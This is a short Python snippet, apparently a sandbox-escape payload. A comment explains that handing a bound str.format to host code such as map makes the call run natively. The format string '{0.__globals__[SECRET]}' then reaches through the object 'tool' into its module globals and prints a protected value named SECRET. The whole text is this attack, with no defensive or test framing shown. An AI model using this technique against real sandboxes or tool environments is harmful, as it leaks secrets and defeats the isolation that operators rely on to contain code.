# A bound str.format handed to host code (map), which calls it natively.
print(list(map("{0.__globals__[SECRET]}".format, [tool]))[0])
